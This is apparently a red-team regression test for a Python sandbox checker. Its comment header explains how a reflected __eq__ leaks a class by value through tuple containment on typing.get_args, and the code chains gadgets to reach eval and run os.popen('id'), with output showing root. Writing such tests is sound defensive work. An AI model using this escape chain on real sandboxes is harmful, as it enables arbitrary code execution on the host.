# expect: reject class_value
# line: 33
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family E: a class by value handed to the program's __eq__ through containment (an element of a tuple on the right of in, typing.get_args's tuple) or a dict lookup whose key of the program forges the class's hash (the red team's program)
# Mechanism: rule class_value lets a typing.get_args(...) result be 'inspected' and accepts it as the 
# right operand of 'in' (it refuses == with a tuple, 'in' with it on the left, and a subscript of 
# it). But tuple containment runs item == element for each element: 'g in 
# typing.get_args(list[collections.Counter])' runs Counter == g, and (type.__eq__ returning 
# NotImplemented) the program's reflected Grab.__eq__(Counter), which raises LookupError(other). The 
# argument list[collections.Counter] is itself allowed by rule unbound (an index of a library 
# generic).
# Goal reached: collections.Counter by value, then the builtin type by value (Counter.copy(P)), then 
# eval by value (the 11b end gadget), called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

g = Grab()
try:
    g in typing.get_args(list[collections.Counter])
except Exception as e:
    K = e.args[0]
print("by value:", K)
T = K.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
